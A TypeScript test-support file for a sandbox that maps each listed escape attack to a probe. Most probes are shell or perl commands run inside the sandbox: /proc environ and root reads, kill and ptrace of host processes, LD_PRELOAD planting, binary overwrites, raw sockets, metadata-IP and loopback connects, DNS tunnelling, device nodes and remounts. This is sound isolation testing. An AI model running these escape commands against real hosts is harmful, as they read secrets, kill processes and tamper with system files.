// How each attack of sandbox-escapes.json is tried here. A probe's command says OUT for whatever it got and TRIED at its end.
import { CALL_TABLES, REFUSED_CALLS } from "../src/driver/seccomp-tables.ts";

/** What a probe is told of the machine outside. */
export interface Outside {
  /** A file of the host that everybody there may read; it holds CANARY. */
  readonly canary: string;
  readonly folder: string;
  /** A port on the host's loopback that answers. */
  readonly port: number;
  /** Processes of the host. */
  readonly pids: readonly number[];
  readonly socket: string;
}

export type Probe =
  /** Runs in a sandbox. */
  | { readonly command: (outside: Outside) => string }
  /** Is tried by a test of its own, which has this title in this file. */
  | { readonly test: string; readonly in: string };

const numbers = CALL_TABLES[process.arch]?.numbers ?? {};

/** `out WORDS` where the command worked. */
const PRELUDE = `
out() { echo "OUT $*"; }
try() { if "$@" > /tmp/said 2>&1; then out "$* $(head -c 200 /tmp/said)"; fi; }
port() { timeout 3 bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null && out "port $1 $2"; }
`;
/** Says OUT for each system call that is not refused with EPERM, ENOSYS or EAFNOSUPPORT. */
const calls = (names: readonly (keyof typeof numbers)[], args = "0, 0, 0, 0"): string =>
  names
    .filter((name) => numbers[name] !== undefined)
    .map(
      (name) =>
        `perl -e '$! = 0; $r = syscall(${numbers[name]}, ${args}); print "OUT ${name} $r $!\\n" if $r >= 0 || ($! != 1 && $! != 38 && $! != 97)'`,
    )
    .join("\n");
const command = (text: (outside: Outside) => string): Probe => ({
  command: (outside) => `${PRELUDE}\n${text(outside)}\necho TRIED`,
});
const egress = (test: string): Probe => ({ test, in: "egress" });

/** By the words of the list. */
export const PROBES: Readonly<Record<string, Probe>> = {
  "ln -s /etc/passwd f; read f through the file API": {
    test: "[S20] a link to a host file leads to nothing through the file API",
    in: "escapes-files.test.ts",
  },
  "ln -s ~/.ssh d; list d through the file API": {
    test: "[S20] a link to a host folder leads to nothing through the file API",
    in: "escapes-files.test.ts",
  },
  "write through a symlinked parent directory": {
    test: "[S20] a write through a linked parent lands in the sandbox or nowhere",
    in: "escapes-files.test.ts",
  },
  "hard link to a host file": command(
    ({ canary }) =>
      `try ln ${canary} hard; try ln /etc/passwd hard; try ln /usr/bin/env hard; cat hard`,
  ),
  "symlink inside an uploaded zip/tar": {
    test: "[S20] a link in an unpacked archive leads to nothing",
    in: "escapes-files.test.ts",
  },
  "/proc/1/root, /proc/*/cwd, /proc/*/fd": command(
    ({ canary }) =>
      `for p in /proc/[0-9]*; do try cat $p/root${canary}; try cat $p/cwd${canary}; try ls $p/root/root; done
      ls -l /proc/[0-9]*/fd 2>/dev/null | grep -e '-> /' | grep -v -e /dev/ -e /proc/ -e /workspace -e /tmp/said -e "-> /usr/" | sed 's/^/OUT /'`,
  ),
  "/proc/*/environ of the host server": command(
    () =>
      `cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -E 'CANARY|ACOS_SANDBOX_HOST|ACOS_RUN' && out environ`,
  ),
  "/proc/kcore, /proc/sysrq-trigger, /proc/sys writes": command(
    () => `
      try head -c 1 /proc/kcore; [ -s /tmp/said ] || true
      for f in sysrq-trigger sys/kernel/core_pattern sys/kernel/hostname sys/vm/drop_caches sys/kernel/modprobe sys/net/ipv4/ip_forward; do
        (echo x > /proc/$f) 2>/dev/null && out $f; done; true`,
  ),
  "setuid binary in workspace": {
    test: "[S24] a file that says it runs as its owner runs as nobody else, inside and outside",
    in: "escapes-files.test.ts",
  },
  "open_by_handle_at (shocker)": command(() => calls(["open_by_handle_at", "name_to_handle_at"])),
  "FIFO or device node read by the file API (hang)": {
    test: "[S13] a sandbox whose agent hangs holds up nobody else, and can be stopped",
    in: "escapes-files.test.ts",
  },
  "sparse 1 TiB file / quota bypass": {
    test: "[S17] a file larger than the disk is refused by the kernel, also with nothing in it",
    in: "limits.test.ts",
  },
  "read another group's workspace by inode reuse after deletion": {
    test: "[S20] what one group deleted, no other group finds",
    in: "escapes-files.test.ts",
  },
  "write .git/config core.fsmonitor / core.hooksPath then host-side git": {
    test: "[S20] nothing of a workspace is ever run by the host",
    in: "escapes-files.test.ts",
  },

  "connect to 127.0.0.1 of the host: orchestrator, DO, R2, KV, inspector ports": command(
    ({ port }) => `port 127.0.0.1 ${port}; port localhost ${port}; port 0.0.0.0 ${port}; true`,
  ),
  "IPv6 link-local and ::1": command(
    ({ port }) => `port ::1 ${port}; port fe80::1%lo ${port}; port ::ffff:127.0.0.1 ${port}; true`,
  ),
  "DNS query of CANARY.x.invalid (tunnel)": command(
    () => `
      try getent hosts CANARY.x.invalid
      timeout 3 bash -c 'echo q > /dev/udp/8.8.8.8/53' 2>/dev/null && out udp
      timeout 3 bash -c 'echo q > /dev/udp/127.0.0.53/53 && exec 3<>/dev/tcp/127.0.0.53/53' 2>/dev/null && out resolver
      true`,
  ),
  "UDP, QUIC, ICMP, raw socket, AF_PACKET, AF_VSOCK, AF_NETLINK": command(
    () => `
      perl -e 'use Socket; for ([17, 3, 768], [40, 1, 0], [2, 3, 1], [10, 3, 58], [31, 3, 1], [44, 3, 0], [38, 5, 0]) { socket(my $s, $$_[0], $$_[1], $$_[2]) and print "OUT family $$_[0]\\n" }'
      timeout 3 bash -c 'echo q > /dev/udp/1.1.1.1/443' 2>/dev/null && out quic
      try ping -c 1 -W 1 1.1.1.1
      try ip link add dummy0 type dummy; try ip route add default dev lo
      grep -v -e lo: -e Inter -e face /proc/net/dev && out interface; true`,
  ),
  "/var/run/docker.sock, ssh-agent, gpg-agent, dbus sockets": command(
    ({ socket }) => `
      find / -xdev -type s -not -path '/run/acos*' 2>/dev/null | sed 's/^/OUT socket /'
      ls /var/run/docker.sock /run/dbus /run/user /tmp/ssh-* 2>/dev/null | sed 's/^/OUT /'
      perl -e 'use Socket; socket(my $s, 1, 1, 0); print "OUT path\\n" if connect($s, sockaddr_un("${socket}")); socket($s, 1, 1, 0); print "OUT abstract\\n" if connect($s, pack_sockaddr_un("\\0acos-test"))'`,
  ),
  'egress proxy: host "evil.invalid\\0.allowed.example" (SOCKS5 NUL)': egress("NUL in a host"),
  "egress proxy: trailing dot, upper case, punycode, percent-encoded host": egress("spellings"),
  "egress proxy: IP literal of an allowed host, and of a denied one": egress("literals"),
  "egress proxy: Host header differs from CONNECT target": egress("Host and target"),
  "egress proxy: request smuggling (CL.TE, TE.CL, bare LF)": egress("smuggling"),
  "egress proxy: WebSocket upgrade through it": egress("upgrades"),
  "egress proxy: no proxy env set (direct connect)": command(
    () => `
      unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy
      port 1.1.1.1 443; port 169.254.169.254 80; port 10.0.0.1 22; port 2606:4700:4700::1111 443
      try curl -m 3 -sS https://1.1.1.1/; true`,
  ),
  "exfiltration through an allowed host that accepts uploads (package registry, git host, paste)":
    egress("uploads"),
  "listen on 0.0.0.0 and be reached from outside without the preview gate": {
    test: "[S21] what a sandbox listens on is reached neither from the host nor from another sandbox",
    in: "escapes.test.ts",
  },
  "bind the preview port of another group": {
    test: "[S21] what a sandbox listens on is reached neither from the host nor from another sandbox",
    in: "escapes.test.ts",
  },

  "fork bomb": { test: "[S17] a fork bomb stays in its sandbox", in: "limits.test.ts" },
  "allocate 64 GiB": { test: "[S17] memory beyond the limit is not had", in: "limits.test.ts" },
  "fill disk, fill inodes": {
    test: "[S18] files that are too large or too many together end the sandbox with words",
    in: "limits.test.ts",
  },
  "open 1e6 files": { test: "[S17] a million open files are not had", in: "limits.test.ts" },
  "1e5 threads": { test: "[S17] a hundred thousand threads are not had", in: "limits.test.ts" },
  "output 10 GiB on stdout": {
    test: "[S17] endless output costs the host no memory, and ends with its reader",
    in: "limits.test.ts",
  },
  "renice / ioprio / mlock": {
    test: "[S17] no process raises its own share: nice, io, locked memory, limits",
    in: "limits.test.ts",
  },
  "sleep past the run limit": {
    test: "[S17] what waits for ever ends with its reader, or with the stop",
    in: "limits.test.ts",
  },

  "kill -9 of host processes by pid": command(({ pids }) =>
    pids.map((pid) => `[ ${pid} -gt 100 ] && try kill -9 ${pid}; true`).join("\n"),
  ),
  "ptrace a host process": command(
    ({ pids }) => `
      ${calls(["ptrace"], `16, ${pids[0]}, 0, 0`)}
      ${calls(["ptrace"], "16, 1, 0, 0")}
      ${calls(["process_vm_readv", "process_vm_writev", "kcmp", "pidfd_getfd"], `${pids[0]}, 0, 0, 0, 0, 0`)}`,
  ),
  "TIOCSTI / terminal injection": command(
    () => `
      perl -e 'open(my $p, "+<", "/dev/ptmx") or exit; my $c = "x"; print "OUT sti\\n" if ioctl($p, 0x5412, $c); print "OUT linux\\n" if ioctl($p, 0x541C, $c); print "OUT stdin\\n" if ioctl(STDIN, 0x5412, $c)'
      (echo x > /dev/tty) 2>/dev/null && out tty; (echo x > /dev/console) 2>/dev/null && ! [ -t 0 ] && [ -c /dev/console ] && out console; true`,
  ),
  "signal the parent process group": {
    test: "[S22] signals to everybody end the sandbox's own processes and nobody else's",
    in: "escapes.test.ts",
  },
  "replace node/git on PATH then host calls it": command(
    () => `
      for f in /opt/acos/bin/node /usr/bin/git /usr/local/bin/node /bin/sh /opt/acos/agent/agent.js /etc/passwd; do
        (echo evil > $f) 2>/dev/null && out $f; try mv $f /tmp/x; try cp /usr/bin/env $f; done; true`,
  ),
  "LD_PRELOAD in a host-run command": command(
    () => `
      (echo /workspace/evil.so > /etc/ld.so.preload) 2>/dev/null && out preload
      (echo LD_PRELOAD=x > /etc/environment) 2>/dev/null && out environment
      tr '\\0' '\\n' < /proc/1/environ | grep LD_ && out environ; true`,
  ),
  "perf/bpf/io_uring syscalls": command(() =>
    calls(["perf_event_open", "bpf", "io_uring_setup", "io_uring_enter", "userfaultfd"]),
  ),
  "clock_settime, reboot, swapon, init_module": command(() =>
    calls([
      ...(["clock_settime", "settimeofday", "adjtimex", "clock_adjtime", "reboot"] as const),
      ...(["swapon", "swapoff", "init_module", "finit_module", "delete_module"] as const),
      ...(["kexec_load", "kexec_file_load", "acct", "syslog"] as const),
    ]),
  ),
  "escape through the debugger/inspector port of the server": command(
    ({ pids }) =>
      `${pids.map((pid) => `[ ${pid} -gt 100 ] && try kill -USR1 ${pid}`).join("\n")}\nport 127.0.0.1 9229; port ::1 9229; true`,
  ),
};

/** Attacks that the list does not have. */
export const MORE_PROBES: Readonly<Record<string, Probe>> = {
  "every call of the filter's list": command(() => calls(REFUSED_CALLS)),
  "clone with new namespaces, and clone3": command(
    () => `
      ${calls(["clone"], "0x10000011, 0, 0, 0, 0")}
      ${calls(["clone"], "0x20000011, 0, 0, 0, 0")}
      ${calls(["clone3"], "0, 88")}
      try unshare -r id; try unshare -n true; try unshare -m true`,
  ),
  "write into the memory of process 1, which stands outside a careless filter": command(
    () => `
      for field in Seccomp:.2 NoNewPrivs:.1 CapEff:.0000000000000000 CapBnd:.0000000000000000; do
        for p in /proc/[0-9]*; do grep -q "^$field" $p/status || { [ -d $p ] && out "$p $field"; }; done; done`,
  ),
  "write into the root, /dev, /etc, /run, /usr and /opt": command(
    () =>
      `for d in / /dev /etc /run /usr /usr/bin /opt /opt/acos /run/acos-egress /var /var/lib; do (echo x > $d/planted) 2>/dev/null && out $d; done; true`,
  ),
  "find control groups and raise the own limit": command(
    () => `
      ls -d /sys/fs /sys/kernel 2>/dev/null | sed 's/^/OUT /'
      try mount -t cgroup2 none /tmp; try mount -t sysfs none /tmp; try mount -t proc none /tmp
      find / -xdev -name 'cgroup.procs' 2>/dev/null | sed 's/^/OUT /'`,
  ),
  "raise a hard limit of the kernel": command(
    () =>
      `ulimit -Hn; try bash -c 'ulimit -n 10000000'; try bash -c 'ulimit -c unlimited'; try bash -c 'ulimit -u 100000'; try bash -c 'ulimit -f unlimited'; true`,
  ),
  "exchange the egress socket, or the authorities that programs believe": command(
    () => `
      for f in egress.sock ca.pem certificates.pem; do try rm -f /run/acos-egress/$f; try mv /run/acos-egress/$f /tmp/x; done
      try ln -s /tmp/x /run/acos-egress/y; try umount /run/acos-egress`,
  ),
  "mount over, remount and unmount": command(
    () =>
      `try mount -o remount,rw /usr; try mount -o remount,rw /; try mount --bind /tmp /etc; try umount /proc; try umount -l /usr; try pivot_root . .; try chroot / id`,
  ),
  "the host's own folders by every name there is": command(
    ({ folder, canary }) => `
      try ls ${folder}; try cat ${canary}; try ls /run/acos-sandbox-host; try ls /root; try ls /home/..${folder}; try ls /var/lib/acos/../../../${folder}
      find / -xdev -name record.json -o -xdev -name uids.json 2>/dev/null | sed 's/^/OUT /'`,
  ),
  "devices: disks, memory, kvm, fuse, loop": command(
    () => `
      for d in kmsg mem kvm vda sda fuse loop-control net/tun vsock vhost-vsock uinput; do [ -e /dev/$d ] && out $d; done
      try mknod /tmp/disk b 254 0; try mknod /workspace/mem c 1 1; true`,
  ),
};
